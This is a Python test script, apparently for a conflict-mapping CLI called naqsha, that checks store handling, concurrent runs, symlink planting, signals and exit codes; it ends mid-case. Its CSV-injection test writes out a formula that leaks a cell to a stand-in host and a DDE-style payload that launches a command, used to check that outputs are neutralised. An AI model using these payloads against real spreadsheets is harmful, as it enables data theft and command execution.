#!/usr/bin/env python3
"""Data safety (docs/reliability.md, issue 17): what a tester found beyond the bad-input catalogue, one
check per case. Each drives the real naqsha binary on tiny inputs and checks what a user sees: the exit
code of docs/cli.md, a message naming the file and the problem, and that nothing already written is
lost, changed or followed outside the output.

    data_safety.py --naqsha build/naqsha --work DIR CASE     run one case (ctest runs each separately)
    data_safety.py --list                                    the case names
"""
import json
import os
import re
import shutil
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

sys.dont_write_bytecode = True  # no __pycache__ beside the sources
from checklist import (EXIT_BOUNDARY_DATA, EXIT_OUTPUT, EXIT_PARTIAL, EXIT_SUCCESS, EXIT_USAGE, SOURCE, Checklist,
                       check, main)

# docs/cli.md#exit-codes (checked against the table by the exit_code_table case)
EXIT_STORE, EXIT_BUSY = 6, 7
EXIT_SIGTERM = 128 + signal.SIGTERM

case = Checklist()
SEEDS = ("001_7f9b9c3711d5355b", "003_71abac885cfa549a", "004_4892badbc86e319f")


class Context:
    def __init__(self, naqsha, work, shared):
        self.naqsha = str(Path(naqsha).resolve())
        self.work = Path(work).resolve()
        self.shared = Path(shared).resolve()

    def run(self, *args, expect, timeout=120, **kw):
        """Runs naqsha; checks the exit code is `expect` (one code or a tuple). Returns (stdout, stderr)."""
        command = [self.naqsha, *map(str, args)]
        try:
            result = subprocess.run(command, capture_output=True, timeout=timeout, **kw)
        except subprocess.TimeoutExpired:
            check(False, f"{' '.join(command)} did not finish in {timeout} s")
        out = result.stdout.decode("utf-8", "replace")
        err = result.stderr.decode("utf-8", "replace")
        print("$", " ".join(command), f"-> exit {result.returncode}")
        if err:
            print(err[-3000:], end="" if err.endswith("\n") else "\n")
        expected = expect if isinstance(expect, tuple) else (expect,)
        check(result.returncode in expected, f"expected exit {expect}, got {result.returncode}\nstderr: {err[-2000:]}")
        return out, err

    def seed(self, stem):
        return self.shared / "corpus" / "seeds" / (stem + ".txt")

    def articles(self, name, stems):
        """A directory holding copies of the seed articles `stems`."""
        folder = self.work / name
        folder.mkdir(parents=True)
        for stem in stems:
            shutil.copyfile(self.seed(stem), folder / (stem + ".txt"))
        return folder


def stored_article_ids(gpkg):
    with sqlite3.connect(f"file:{gpkg}?mode=ro", uri=True) as db:
        return {row[0] for row in db.execute("SELECT article FROM articles")}


def manifest(directory):
    """{relative path: bytes} of every file below `directory`, hidden ones included."""
    return {str(f.relative_to(directory)): f.read_bytes() for f in sorted(Path(directory).rglob("*")) if f.is_file()}


def check_named(err, where, *words):
    lines = [line for line in err.splitlines() if str(where) in line]
    check(lines, f"stderr does not name {where}:\n{err}")
    check(any(all(w in line for w in words) for line in lines),
          f"the message for {where} does not say {' / '.join(words)}: {lines}")


# -- item 1: articles with the same name ------------------------------------------------------------

def extracted_event_ids(ctx, *inputs, expect=EXIT_SUCCESS, quiet=True):
    events = ctx.work / "events.ndjson"
    _, err = ctx.run(*(["-q"] if quiet else []), "extract", "-o", events, *inputs, expect=expect)
    return [json.loads(line)["id"] for line in events.read_text(encoding="utf-8").splitlines()], err


@case
def same_named_articles(ctx):
    """Files of one name in two folders, an NDJSON line without an id beside a .txt named as that line
    once was, and two runs from standard input: every article keeps its own id, in `run` and `extract`.
    The same id with other text is reported and left out (exit 1); with the same text, read once."""
    batch = ctx.work / "batch"
    for folder, stem in (("a", SEEDS[0]), ("b", SEEDS[1])):
        (batch / folder).mkdir(parents=True)
        shutil.copyfile(ctx.seed(stem), batch / folder / "report.txt")
    (batch / "feed.ndjson").write_text(json.dumps({"text": ctx.seed(SEEDS[2]).read_text()}) + "\n")
    shutil.copyfile(ctx.seed("000_c905fdbc4c1957c1"), batch / "feed-1.txt")
    out = ctx.work / "out"
    stdout, _ = ctx.run("run", "--articles", batch, "--out", out, "--no-tiles", expect=EXIT_SUCCESS)
    stored = stored_article_ids(out / "naqsha.gpkg")
    check(stored == {"a/report", "b/report", "feed.ndjson:1", "feed-1"}, f"stored {sorted(stored)}")
    check("4 articles read: 4 extracted" in stdout, f"the run's count: {stdout.splitlines()[:1]}")
    ids, _ = extracted_event_ids(ctx, batch)
    check(len(ids) == len(set(ids)), f"extract repeats event ids: {sorted(i for i in ids if ids.count(i) > 1)}")

    # Standard input: each run's article is its own.
    for stem in SEEDS[:2]:
        ctx.run("-q", "run", "--articles", "-", "--out", out, "--no-tiles", expect=EXIT_SUCCESS,
                input=ctx.seed(stem).read_bytes())
    stdin_ids = {i for i in stored_article_ids(out / "naqsha.gpkg") if i.startswith("stdin")}
    check(len(stdin_ids) == 2, f"two runs from standard input stored {sorted(stdin_ids)}")

    # True duplicates: one NDJSON id for two texts is reported, naming both places; the first is kept.
    dup = ctx.work / "dup"
    dup.mkdir()
    line = lambda stem: json.dumps({"id": "same", "text": ctx.seed(stem).read_text()}) + "\n"
    (dup / "one.ndjson").write_text(line(SEEDS[0]))
    (dup / "two.ndjson").write_text(line(SEEDS[1]) + line(SEEDS[0]))
    dup_out = ctx.work / "dup-out"
    _, err = ctx.run("-q", "run", "--articles", dup, "--out", dup_out, "--no-tiles", expect=EXIT_PARTIAL)
    check_named(err, f"{dup / 'two.ndjson'}:1", "'same'", "already taken by", f"{dup / 'one.ndjson'}:1")
    with sqlite3.connect(f"file:{dup_out / 'naqsha.gpkg'}?mode=ro", uri=True) as db:
        paths = [row[0] for row in db.execute("SELECT path FROM articles")]
    check(paths == [f"{dup / 'one.ndjson'}:1"], f"the first claimant is not the one stored: {paths}")
    ids, err = extracted_event_ids(ctx, dup, expect=EXIT_PARTIAL, quiet=False)
    check(len(ids) == len(set(ids)), f"extract repeats event ids: {ids}")
    check_named(err, f"{dup / 'two.ndjson'}:1", "already taken by")
    # The same text under one id twice (two.ndjson:2 repeats one.ndjson:1) is one article, read once.
    check("two.ndjson:2" in err and "read once" in err, f"the repeat is not noted: {err}")


@case
def old_store_migrated(ctx):
    """A real store of schema 1 (tests/data/store-schema1, written by naqsha before schema 2): a run
    reads it, keeps every article (those it is not given too), gives the articles it reads from
    subdirectories their schema-2 ids without storing them twice, and writes schema 2."""
    fixture = SOURCE / "tests" / "data" / "store-schema1"
    out = ctx.work / "out"
    out.mkdir()
    shutil.copyfile(fixture / "naqsha.gpkg", out / "naqsha.gpkg")
    (out / ".naqsha-output").write_text("Written by naqsha run.\n")
    # The store recorded the articles' paths relative to its working directory: read them from the same.
    articles = ctx.work / "articles"
    shutil.copytree(fixture / "articles", articles)
    shutil.rmtree(articles / "ghazni")  # not given to this run: must stay stored all the same
    shutil.copyfile(ctx.seed(SEEDS[0]), articles / "new.txt")
    stdout, _ = ctx.run("run", "--articles", "articles", "--out", "out", "--no-tiles", expect=EXIT_SUCCESS,
                        cwd=ctx.work)
    check("store schema 1 read; this run writes it as schema 2" in stdout, f"the migration is not said: {stdout}")
    gpkg = out / "naqsha.gpkg"
    with sqlite3.connect(f"file:{gpkg}?mode=ro", uri=True) as db:
        version = db.execute("SELECT value FROM naqsha_store_info WHERE key = 'schema_version'").fetchone()[0]
        slices = db.execute("SELECT count(*) FROM time_slices").fetchone()[0]
        rows = dict(db.execute("SELECT article, path FROM articles").fetchall())
        andar = db.execute("SELECT quote FROM mentions WHERE article = 'andar'").fetchall()
    check(version == "2", f"schema_version {version}")
    check(slices > 0, "no time_slices")
    check(sorted(rows) == ["andar", "helmand/nad-e-ali", "kunduz", "new"], f"articles after the migration: {rows}")
    check(rows["andar"] == "articles/ghazni/andar.txt", "the article this run was not given lost its record")
    check(len(andar) == 1 and "roadside bomb" in andar[0][0], f"its mention: {andar}")


# -- item 9: numeric options have ranges; the output path is checked before any work --------------

@case
def option_ranges(ctx):
    out = ctx.work / "out"
    article = ctx.seed(SEEDS[0])
    for args, option in [(["run", "--contested-days", "2147483000"], "--contested-days"),
                         (["run", "--contested-days", "0"], "--contested-days"),
                         (["run", "-j", "100000"], "--jobs"),
                         (["extract", "-j", "100000", article], "--jobs"),
                         (["tiles", "-j", "100000"], "--jobs"),
                         (["tiles", "--threads", "100000"], "--threads"),
                         (["tiles", "--png-level", "10"], "--png-level"),
                         (["gazetteer", "lookup", "--limit", "0", "Kabul"], "--limit")]:
        extra = ["--out", out, "--articles", article, "--no-tiles"] if args[0] == "run" else []
        _, err = ctx.run(*args, *extra, expect=EXIT_USAGE)
        check(option in err, f"the message for {' '.join(map(str, args))} does not name {option}: {err!r}")
        check(not out.exists(), f"{' '.join(map(str, args))} wrote an output")

    # The output is checked before the gazetteer is loaded or any article read: with boundary data that
    # does not exist, the output's problem is the one reported.
    no_data = ["--data", ctx.work / "no-boundary-data"]
    for command in (["run", "--articles", article, "--no-tiles"], ["tiles"]):
        _, err = ctx.run(*no_data, *command, "--out", "", expect=EXIT_USAGE)
        check("--out" in err and "empty" in err, f"{command[0]} --out '': the message does not say so: {err!r}")
        blocker = ctx.work / "a-file"
        blocker.write_text("not a directory\n")
        _, err = ctx.run(*no_data, *command, "--out", blocker / "out", expect=EXIT_OUTPUT)
        check_named(err, blocker / "out", "Not a directory")


# -- item 10: a FIFO (or anything but a regular file) planted as the store ---------------------------

@case
def fifo_store(ctx):
    out = ctx.work / "out"
    ctx.run("-q", "run", "--articles", ctx.seed(SEEDS[0]), "--out", out, "--no-tiles", expect=EXIT_SUCCESS)
    store = out / "naqsha.gpkg"
    for planted in ("fifo", "directory", "symlink"):
        if store.is_dir() and not store.is_symlink():
            store.rmdir()
        else:
            store.unlink()
        if planted == "fifo":
            os.mkfifo(store)
        elif planted == "directory":
            store.mkdir()
        else:
            (ctx.work / "elsewhere.gpkg").write_bytes(b"")
            store.symlink_to(ctx.work / "elsewhere.gpkg")
        before = sorted(p.name for p in out.iterdir())
        _, err = ctx.run("-q", "run", "--articles", ctx.seed(SEEDS[1]), "--out", out, "--no-tiles",
                         expect=EXIT_STORE, timeout=60)
        check_named(err, store, "not a regular file")
        check(sorted(p.name for p in out.iterdir()) == before, f"{planted}: the output changed")
    # `naqsha tiles --gpkg` follows a link the user gives, but reads only a regular file.
    store.unlink()
    os.mkfifo(store)
    _, err = ctx.run("-q", "tiles", "--gpkg", store, "--out", ctx.work / "tiles-out", "--zoom", "0-1",
                     expect=EXIT_PARTIAL, timeout=60)
    check_named(err, store, "not a regular file")


# -- item 2: an unreadable store is refused, left untouched, rebuilt only on request ----------------

def break_store(kind, gpkg):
    if kind == "truncated":
        data = gpkg.read_bytes()
        gpkg.write_bytes(data[:len(data) // 2])
    elif kind == "corrupt":
        # Noise over the first page of the mentions table (a bad sector, a bad copy).
        with sqlite3.connect(gpkg) as db:
            page_size = db.execute("PRAGMA page_size").fetchone()[0]
            root = db.execute("SELECT rootpage FROM sqlite_master WHERE name = 'mentions'").fetchone()[0]
        data = bytearray(gpkg.read_bytes())
        start = (root - 1) * page_size
        data[start:start + page_size] = bytes((i * 7919 + 13) % 251 for i in range(page_size))
        gpkg.write_bytes(bytes(data))
    elif kind == "not_sqlite":
        gpkg.write_bytes(b"this is not a GeoPackage\n" * 100)
    elif kind == "newer_schema":
        with sqlite3.connect(gpkg) as db:
            db.execute("UPDATE naqsha_store_info SET value = '99' WHERE key = 'schema_version'")
    elif kind == "bad_json_cell":
        with sqlite3.connect(gpkg) as db:
            db.execute("UPDATE mentions SET claims = '[{\"field\": ' WHERE fid = (SELECT min(fid) FROM mentions)")
    elif kind == "missing_table":
        with sqlite3.connect(gpkg) as db:
            db.execute("DROP TABLE mentions")


STORE_DAMAGE = ("truncated", "corrupt", "not_sqlite", "newer_schema", "bad_json_cell", "missing_table")


@case
def unreadable_store(ctx):
    first = ctx.articles("first", SEEDS[:2])
    more = ctx.articles("more", SEEDS[2:])
    for kind in STORE_DAMAGE:
        out = ctx.work / f"out-{kind}"
        ctx.run("-q", "run", "--articles", first, "--out", out, "--no-tiles", expect=EXIT_SUCCESS)
        break_store(kind, out / "naqsha.gpkg")
        broken = manifest(out)
        _, err = ctx.run("-q", "run", "--articles", more, "--out", out, "--no-tiles", expect=EXIT_STORE)
        check_named(err, out / "naqsha.gpkg", "--rebuild")
        check("extracting every article again" not in err, f"{kind}: still claims to start again: {err}")
        check(manifest(out) == broken, f"{kind}: the output changed although the run was refused")
        check(not list(ctx.work.glob(f"out-{kind}.naqsha-staging-*")), f"{kind}: a staging directory is left")

        # --rebuild: explicit; the unreadable file is kept beside the new store, byte for byte.
        out_text, err = ctx.run("run", "--articles", more, "--out", out, "--no-tiles", "--rebuild",
                                expect=EXIT_SUCCESS)
        kept = sorted(out.glob("naqsha.gpkg.unreadable-*"))
        check(len(kept) == 1, f"{kind}: the unreadable store is not kept beside the new one: {sorted(os.listdir(out))}")
        check(kept[0].read_bytes() == broken["naqsha.gpkg"], f"{kind}: the kept store is not the old file")
        check(kept[0].name in err + out_text, f"{kind}: the run does not say where the old store went")
        check(stored_article_ids(out / "naqsha.gpkg") == set(SEEDS[2:]), f"{kind}: the rebuilt store")
        if kind != STORE_DAMAGE[0]:
            continue
        # Later runs keep it too.
        ctx.run("-q", "run", "--articles", first, "--out", out, "--no-tiles", expect=EXIT_SUCCESS)
        check([p.name for p in out.glob("naqsha.gpkg.unreadable-*")] == [kept[0].name],
              f"{kind}: the kept store did not survive the next run")
        check(stored_article_ids(out / "naqsha.gpkg") == set(SEEDS), f"{kind}: the next run's store")


# -- item 3: two runs on one output at once ---------------------------------------------------------

TRIALS = 50


@case
def concurrent_runs(ctx):
    """Two runs started at once on the same --out, 50 times (one in five with --wait): every run that
    exits 0 has all its articles in the final store; a run that does not wait is refused with exit 7
    and the other run's PID; nothing is lost with exit status 0."""
    sets = {"a": ctx.articles("set-a", SEEDS[:1]), "b": ctx.articles("set-b", SEEDS[1:2])}
    expected = {name: {p.stem for p in folder.iterdir()} for name, folder in sets.items()}
    outcomes = {"both": 0, "one refused": 0}
    for trial in range(TRIALS):
        out = ctx.work / f"out-{trial}"
        wait = ["--wait"] if trial % 5 == 4 else []  # both complete: the slower kind of trial
        processes = {name: subprocess.Popen([ctx.naqsha, "-q", "run", "--articles", folder, "--out", out,
                                             "--no-tiles", *wait], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
                     for name, folder in sets.items()}
        results = {name: (p.wait(timeout=300), p.stderr.read().decode(), p.pid) for name, p in processes.items()}
        for p in processes.values():
            p.stdout.close()
            p.stderr.close()
        stored = stored_article_ids(out / "naqsha.gpkg")
        for name, (code, err, pid) in results.items():
            other_pid = next(r[2] for n, r in results.items() if n != name)
            if code == EXIT_SUCCESS:
                check(expected[name] <= stored,
                      f"trial {trial}: run {name} exited 0 but its articles {sorted(expected[name] - stored)} are lost")
            else:
                check(code == EXIT_BUSY and not wait, f"trial {trial}: run {name} exited {code}: {err}")
                check(str(other_pid) in err and "--wait" in err,
                      f"trial {trial}: the refusal does not name the other run's PID {other_pid}: {err!r}")
        codes = sorted(r[0] for r in results.values())
        outcomes["both" if codes == [0, 0] else "one refused"] += 1
        check(codes in ([0, 0], [0, EXIT_BUSY]), f"trial {trial}: exit codes {codes}")
        if wait:
            check(codes == [0, 0], f"trial {trial}: with --wait both runs must complete: {codes}")
        shutil.rmtree(out)
    print(f"{TRIALS} trials: {outcomes}")


# -- item 5: CSV injection ---------------------------------------------------------------------------

@case
def csv_injection(ctx):
    """Article text and NDJSON fields that a spreadsheet would run as formulas, with control characters:
    no cell of events.csv or events_ucdp.csv starts with = + - @, and none holds a control character."""
    import csv
    text = ('=HYPERLINK("http://evil.example/?leak="&A1,"Click") -- KUNDUZ, Afghanistan (Oct. 20, 2020) '
            "Taliban fighters attacked a police checkpoint in Kunduz city on Monday night, killing five "
            "policemen, provincial police spokesman Inamuddin Rahmani said.")
    lines = [{"id": "formula", "published": "2020-10-20", "source": "@SUM(1+1)*cmd|' /C calc'!A0\u0007\u001b",
              "title": "+title", "url": "-url", "text": text}]
    batch = ctx.work / "batch"
    batch.mkdir()
    (batch / "hostile.ndjson").write_text("".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8")
    out = ctx.work / "out"
    ctx.run("-q", "run", "--articles", batch, "--out", out, "--no-tiles", expect=EXIT_SUCCESS)
    hostile_cells = 0
    for name in ("events.csv", "events_ucdp.csv"):
        with open(out / name, newline="", encoding="utf-8") as f:
            rows = list(csv.reader(f))
        check(len(rows) > 1, f"{name} has no events: the check would prove nothing")
        for row in rows[1:]:
            for cell in row:
                hostile_cells += "SUM(1+1)" in cell or "HYPERLINK" in cell
                check(not cell.lstrip(" ").startswith(("=", "+", "-", "@")), f"{name}: a formula cell: {cell!r}")
                check(not any(ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F for c in cell),
                      f"{name}: a control character in {cell!r}")
    check(hostile_cells > 0, "no hostile text reached the CSV files: the check would prove nothing")


# -- item 6: limits: open files per time slice, publication dates, the number of slices --------------

def limit_open_files(limit):
    import resource
    return lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))


@case
def open_files_per_slice(ctx):
    """Day slices over the seeds' ten months (about 300 slices, two layers, an MBTiles file each) with at
    most 64 open files: every slice is written."""
    out = run_output(ctx, "out")
    _, err = ctx.run("-q", "tiles", "--gpkg", out / "naqsha.gpkg", "--out", out, "--zoom", "0-0", "--slices", "day",
                     "--no-xyz", expect=EXIT_SUCCESS, preexec_fn=limit_open_files(64))
    written = list((out / "tiles").glob("control-*.mbtiles"))
    check(len(written) > 250, f"only {len(written)} day slices written")


@case
def publication_dates(ctx):
    """Publication dates in the future or before 1900 are bad input (named, exit 1, the rest mapped); a
    --published of either is a bad argument; past max_time_slices the message names the option."""
    batch = ctx.work / "batch"
    batch.mkdir()
    text = ctx.seed(SEEDS[0]).read_text()
    lines = [{"id": "future", "published": "9999-12-31", "text": text},
             {"id": "ancient", "published": "1066-10-14", "text": text},
             {"id": "good", "published": "2020-10-21", "text": text}]
    (batch / "dated.ndjson").write_text("".join(json.dumps(line) + "\n" for line in lines))
    out = ctx.work / "out"
    _, err = ctx.run("-q", "run", "--articles", batch, "--out", out, "--no-tiles", expect=EXIT_PARTIAL)
    check_named(err, f"{batch / 'dated.ndjson'}:1", "9999-12-31", "future")
    check_named(err, f"{batch / 'dated.ndjson'}:2", "1066-10-14", "before 1900")
    check(stored_article_ids(out / "naqsha.gpkg") == {"good"}, "the good article is not mapped alone")
    with sqlite3.connect(f"file:{out / 'naqsha.gpkg'}?mode=ro", uri=True) as db:
        slices = db.execute("SELECT count(*) FROM summary").fetchone()[0]
    check(slices < 24, f"{slices} month slices")
    _, err = ctx.run("-q", "extract", "-o", ctx.work / "events.ndjson", batch, expect=EXIT_PARTIAL)
    check_named(err, f"{batch / 'dated.ndjson'}:1", "future")
    for command in (["run", "--articles", batch, "--out", ctx.work / "never", "--no-tiles"],
                    ["extract", "-o", ctx.work / "never.ndjson", batch]):
        _, err = ctx.run(command[0], "--published", "9999-12-31", *command[1:], expect=EXIT_USAGE)
        check("--published" in err and "future" in err, f"{command[0]} --published 9999-12-31: {err!r}")

    # Two decades of day slices: refused before anything is written, naming the option to change.
    span = ctx.work / "span"
    span.mkdir()
    lines = [{"id": "old", "published": "2001-10-08", "text": text}, {"id": "new", "published": "2020-10-21", "text": text}]
    (span / "span.ndjson").write_text("".join(json.dumps(line) + "\n" for line in lines))
    span_out = ctx.work / "span-out"
    _, err = ctx.run("-q", "run", "--articles", span, "--out", span_out, "--no-tiles", "--slice", "day", expect=EXIT_USAGE)
    check("--slice" in err and "day slices" in err, f"the message does not name --slice: {err!r}")
    check(not span_out.exists(), "the refused run wrote an output")
    ctx.run("-q", "run", "--articles", span, "--out", span_out, "--no-tiles", "--slice", "month", expect=EXIT_SUCCESS)
    _, err = ctx.run("-q", "tiles", "--gpkg", span_out / "naqsha.gpkg", "--out", span_out, "--zoom", "0-0",
                     "--slices", "day", expect=EXIT_USAGE)
    check("--slices" in err, f"tiles: the message does not name --slices: {err!r}")


# -- items 4, 7 and 8: `naqsha tiles` ----------------------------------------------------------------

def run_output(ctx, name, stems=SEEDS, *extra):
    """A `naqsha run --no-tiles` output of the seed articles `stems`."""
    out = ctx.work / name
    ctx.run("-q", "run", "--articles", ctx.articles(name + "-articles", stems), "--out", out, "--no-tiles",
            "--slice", "month", *extra, expect=EXIT_SUCCESS)
    return out


def tree(directory):
    """Every path below `directory` (links not followed) -> 'dir', 'link' or the file's bytes."""
    out = {}
    for root, dirs, files in os.walk(directory):
        for name in dirs + files:
            path = Path(root) / name
            key = str(path.relative_to(directory))
            out[key] = "link" if path.is_symlink() else "dir" if path.is_dir() else path.read_bytes()
    return out


@case
def tiles_slices_match_run(ctx):
    """`naqsha tiles` renders exactly the run's time slices, months without incidents included."""
    out = run_output(ctx, "out")
    with sqlite3.connect(f"file:{out / 'naqsha.gpkg'}?mode=ro", uri=True) as db:
        run_slices = [row[0] for row in db.execute("SELECT slice FROM summary ORDER BY fid")]
        with_incidents = {row[0] for row in db.execute("SELECT DISTINCT slice FROM incidents_by_district")}
    check(len(run_slices) > len(with_incidents), f"the corpus should have months without incidents: {run_slices}")
    ctx.run("-q", "tiles", "--gpkg", out / "naqsha.gpkg", "--out", out, "--zoom", "0-1", "--no-xyz",
            expect=EXIT_SUCCESS)
    for layer in ("control", "incidents"):
        rendered = sorted(p.name[len(layer) + 1:-len(".mbtiles")] for p in (out / "tiles").glob(f"{layer}-*.mbtiles"))
        check(rendered == sorted(run_slices), f"{layer}: tiles renders {rendered}, the run's slices are {run_slices}")


@case
def tiles_leftovers(ctx):
    """A `naqsha tiles` killed mid-way (SIGKILL) leaves its leftovers; the next run removes them, and only
    them. SIGTERM removes them at once and exits 143."""
    out = run_output(ctx, "out")
    gpkg = out / "naqsha.gpkg"
    tiles = ["tiles", "--gpkg", gpkg, "--out", out, "-j", "1"]

    def leftovers():
        found = []
        for root, dirs, files in os.walk(out):
            for name in dirs + files:
                relative = str((Path(root) / name).relative_to(out))
                if re.search(r"\.partial-|\.tmp\.|naqsha-staging", name) and relative not in mine:
                    found.append(relative)
        return sorted(found)

    def start_and_signal(sig):
        process = subprocess.Popen([ctx.naqsha, "-q", *map(str, tiles), "--zoom", "0-7"], stderr=subprocess.PIPE)
        deadline = time.monotonic() + 60
        # Until tiles are being written somewhere unfinished (a staging or partial directory).
        while not any(re.search(r"\.partial-|naqsha-staging", str(p)) for p in out.glob("tiles*/**/*.png")) \
                and time.monotonic() < deadline:
            time.sleep(0.02)
        check(process.poll() is None, "naqsha tiles ended before any tile was written: nothing to interrupt")
        process.send_signal(sig)
        code = process.wait(timeout=60)
        return code, process.stderr.read().decode()

    # Files of the user's that look alike stay.
    (out / "tiles" / "control").mkdir(parents=True)
    (out / "tiles" / "notes.tmp.txt").write_text("mine\n")
    (out / "tiles" / "control" / "draft.partial-1").mkdir()
    (out / "tiles" / "control" / "draft.partial-1" / "notes.txt").write_text("mine\n")
    mine = {"tiles/notes.tmp.txt", "tiles/control/draft.partial-1", "tiles/control/draft.partial-1/notes.txt"}

    code, _ = start_and_signal(signal.SIGKILL)
    check(code == -signal.SIGKILL, f"SIGKILL: exit {code}")
    check(leftovers(), "a killed run left nothing to clean: the check would prove nothing")
    ctx.run("-q", *tiles, "--zoom", "0-1", expect=EXIT_SUCCESS)
    check(not leftovers(), f"the next run kept the killed run's leftovers: {leftovers()}")
    check(all((out / p).exists() for p in mine), "the next run removed files that are not naqsha's")

    code, err = start_and_signal(signal.SIGTERM)
    check(code == EXIT_SIGTERM, f"SIGTERM: exit {code}, expected {EXIT_SIGTERM}: {err}")
    check("SIGTERM" in err, f"the message does not say why it stopped: {err!r}")
    check(not leftovers(), f"SIGTERM left {leftovers()}")
    check(all((out / p).exists() for p in mine), "SIGTERM removed files that are not naqsha's")

    # `naqsha run` too: its staging directory goes.
    process = subprocess.Popen([ctx.naqsha, "-q", "run", "--articles", ctx.work / "out-articles", "--out", out,
                                "--slice", "week"], stderr=subprocess.PIPE)
    deadline = time.monotonic() + 60
    while not list(ctx.work.glob("out.naqsha-staging-*/tiles")) and time.monotonic() < deadline:
        time.sleep(0.02)
    process.send_signal(signal.SIGTERM)
    code = process.wait(timeout=60)
    err = process.stderr.read().decode()
    check(code == EXIT_SIGTERM, f"run, SIGTERM: exit {code}: {err}")
    check(not list(ctx.work.glob("out.naqsha-staging-*")), "SIGTERM left run's staging directory")


@case
def planted_symlinks(ctx):
    """Symbolic links planted at every path `naqsha tiles` writes, each pointing outside the output:
    nothing outside changes, whatever the outcome; a link where a directory must be is refused (exit 4,
    named); a link where an output goes is replaced by the output."""
    out = run_output(ctx, "out", SEEDS[:2])
    gpkg = out / "naqsha.gpkg"
    tiles = ["-q", "tiles", "--gpkg", gpkg, "--out", out, "--zoom", "0-2", "--slices", "quarter"]
    ctx.run(*tiles, expect=EXIT_SUCCESS)
    written = sorted(tree(out / "tiles"))
    check(len(written) > 10, f"tiles wrote only {written}")
    victim = ctx.work / "victim"

    def fresh_victim():
        shutil.rmtree(victim, ignore_errors=True)
        (victim / "sub").mkdir(parents=True)
        for name in ["keep.txt", "sub/keep.txt", "legend.png", "0", "control"]:
            target = victim / name
            if name in ("0", "control"):
                target.mkdir()
                (target / "keep.txt").write_text("precious\n")
            else:
                target.write_text("precious\n")
        return tree(victim)

    containers = {"tiles", "tiles/control", "tiles/incidents"}  # directories on the way: refused
    planted = 0
    for relative in ["tiles"] + ["tiles/" + w for w in written]:
        path = out / relative
        if not path.exists() or path.is_symlink():
            continue  # inside a directory an earlier case replaced
        before = fresh_victim()
        if path.is_dir():
            shutil.rmtree(path)
        else:
            path.unlink()
        is_file = path.suffix in (".png", ".mbtiles")
        path.symlink_to(victim / "keep.txt" if is_file else victim, target_is_directory=not is_file)
        planted += 1
        _, err = ctx.run(*tiles, expect=EXIT_OUTPUT if relative in containers else EXIT_SUCCESS)
        check(tree(victim) == before, f"a link at {relative}: files outside the output changed")
        if relative in containers:
            check_named(err, path, "is a symbolic link")
            path.unlink()
            ctx.run(*tiles, expect=EXIT_SUCCESS)
        check(not path.is_symlink(), f"a link at {relative} is still there after a successful run")
    print(f"{planted} links planted")
    check(planted >= len(written) // 2, f"only {planted} links planted")


# -- the exit code table -----------------------------------------------------------------------------

def documented_exit_codes():
    """{code: meaning} from the table under "## Exit codes" in docs/cli.md."""
    text = (SOURCE / "docs" / "cli.md").read_text(encoding="utf-8")
    table = text.split("## Exit codes", 1)[1]
    return {int(m.group(1)): m.group(2) for m in re.finditer(r"^\| (\d+) \| (.+) \|$", table, re.MULTILINE)}


def signalled_run(ctx, sig, out):
    """A run with tiles, stopped by `sig` once it has begun to write: (exit code, stderr)."""
    process = subprocess.Popen([ctx.naqsha, "-q", "run", "--articles", ctx.articles(f"sig-{sig}", SEEDS), "--out", out,
                                "--slice", "week"], stderr=subprocess.PIPE)
    deadline = time.monotonic() + 60
    while not list(out.parent.glob(out.name + ".naqsha-staging-*/*.gpkg")) and time.monotonic() < deadline:
        time.sleep(0.02)
    process.send_signal(sig)
    code = process.wait(timeout=60)
    return code, process.stderr.read().decode()


@case
def exit_code_table(ctx):
    """Every row of the exit code table in docs/cli.md, brought about for real: the exit code, and a
    message that says what the row says. A code without a way to bring it about fails, and so does a
    way that gives a code the table does not have."""
    import fcntl
    article = ctx.seed(SEEDS[0])
    bad_batch = ctx.articles("partial", SEEDS[:1])
    (bad_batch / "binary.txt").write_bytes(bytes(range(256)) * 4)
    blocker = ctx.work / "a-file"
    blocker.write_text("not a directory\n")
    unreadable = ctx.work / "unreadable"
    unreadable.mkdir()
    (unreadable / ".naqsha-output").write_text("")
    (unreadable / "naqsha.gpkg").write_bytes(b"not a GeoPackage\n" * 64)
    busy = ctx.work / "busy"
    empty = ctx.work / "no-articles-here"
    empty.mkdir()
    under_asan = b"__asan_init" in Path(ctx.naqsha).read_bytes()

    def run_ok():
        return ctx.run("-q", "run", "--articles", article, "--out", ctx.work / "ok", "--no-tiles", expect=0)

    def held_lock():
        with open(ctx.work / "busy.naqsha-lock", "w") as lock:
            fcntl.flock(lock, fcntl.LOCK_EX)
            lock.write(f"{os.getpid()}\n")
            lock.flush()
            return ctx.run("-q", "run", "--articles", article, "--out", busy, "--no-tiles", expect=7)

    def out_of_memory():
        if under_asan:
            print("exit 5: not brought about under AddressSanitizer, which needs its own address space")
            return None
        return ctx.run("run", "--articles", article, "--out", ctx.work / "oom", "--no-tiles", expect=5,
                       preexec_fn=lambda: __import__("resource").setrlimit(__import__("resource").RLIMIT_AS,
                                                                             (180_000_000, 180_000_000)))

    def bad_reference():
        reference = ctx.work / "reference.csv"
        reference.write_text("pcode,state\nAF1803,contested\n")
        return ctx.run("-q", "compare", "--reference", reference, "--at", "2020-10-21", "--out", ctx.work / "ok",
                       expect=8)

    def signalled(sig):
        def bring_about():
            out = ctx.work / f"signalled-{sig}"
            code, err = signalled_run(ctx, sig, out)
            check(code == 128 + sig, f"{signal.Signals(sig).name}: exit {code}, expected {128 + sig}: {err}")
            check(not out.exists() and not list(ctx.work.glob(f"signalled-{sig}.naqsha-*")),
                  f"{signal.Signals(sig).name}: the run left files behind")
            return "", err
        return bring_about

    # code: (how to bring it about, words its message must hold)
    ways = {
        0: (run_ok, []),
        1: (lambda: ctx.run("-q", "run", "--articles", bad_batch, "--out", ctx.work / "partial-out", "--no-tiles",
                            expect=1), ["binary.txt", "binary data"]),
        2: (lambda: ctx.run("run", "--no-such-option", expect=2), ["--no-such-option"]),
        3: (lambda: ctx.run("--data", ctx.work / "no-data", "--cache-dir", ctx.work / "cache", "gazetteer", "stats",
                            expect=3), ["boundary data", str(ctx.work / "no-data")]),
        4: (lambda: ctx.run("-q", "run", "--articles", article, "--out", blocker / "out", "--no-tiles", expect=4),
            [str(blocker / "out"), "Not a directory"]),
        5: (out_of_memory, ["internal error"]),
        6: (lambda: ctx.run("-q", "run", "--articles", article, "--out", unreadable, "--no-tiles", expect=6),
